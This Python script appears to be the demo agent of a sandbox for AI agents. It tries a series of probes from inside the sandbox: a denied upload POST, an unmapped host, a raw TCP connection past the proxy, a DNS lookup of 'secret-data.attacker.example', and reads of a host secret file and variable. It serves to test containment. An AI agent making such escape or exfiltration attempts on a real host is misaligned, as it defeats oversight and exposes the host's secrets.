"""The agent of the demo: it runs inside the sandbox and tries six things, good and bad. One JSON line an attempt on
standard output; then it waits for a line on standard input, so that the host can look at the run while it is alive.
Arguments: the URL of the service, the path of a secret file of the host, the address of a host listener."""

import json
import os
import socket
import subprocess
import sys
import urllib.error
import urllib.request

SERVICE, SECRET_PATH, LISTENER = sys.argv[1:4]


def say(what, outcome):
    print(json.dumps({"what": what, "outcome": outcome}), flush=True)


def call(url, data=None):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, data=data), timeout=5) as reply:
            return f"{reply.status} {reply.read().decode()[:60]}"
    except urllib.error.HTTPError as refusal:
        body = json.loads(refusal.read() or b"{}")
        return f"{refusal.code} {body.get('reason', '?')}"
    except OSError as error:
        return f"failed: {error}"


def connect(address):
    host, port = address.rsplit(":", 1)
    try:
        with socket.create_connection((host, int(port)), timeout=3):
            return "connected"
    except OSError as error:
        return f"failed: {error.strerror or error}"


def look_up(name):
    """One plain query to the only name server there is; the answer code tells."""
    question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    question += b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\x00\x00\x01\x00\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as query:
        query.settimeout(3)
        query.sendto(question, ("127.0.0.1", 53))
        code = query.recv(512)[3] & 15
    return {0: "NOERROR", 3: "NXDOMAIN"}.get(code, f"code {code}")


def read_secret():
    try:
        with open(SECRET_PATH, encoding="utf-8") as secret:
            return "read: " + secret.read()
    except OSError as error:
        return "absent" if error.errno == 2 else f"failed: {error.strerror}"


say("allowed GET", call(SERVICE + "/hello"))
say("denied POST", call(SERVICE + "/upload", data=b"everything I found"))
say("unmapped host", call("http://elsewhere.demo.example/"))
say("raw TCP past the proxy", connect(LISTENER))
say("DNS, unrouted name", look_up("secret-data.attacker.example"))
say("host secret file", read_secret())
say("host secret variable", "absent" if "DEMO_SECRET" not in os.environ else "present")
subprocess.run(["true"], check=True)
sys.stdin.readline()
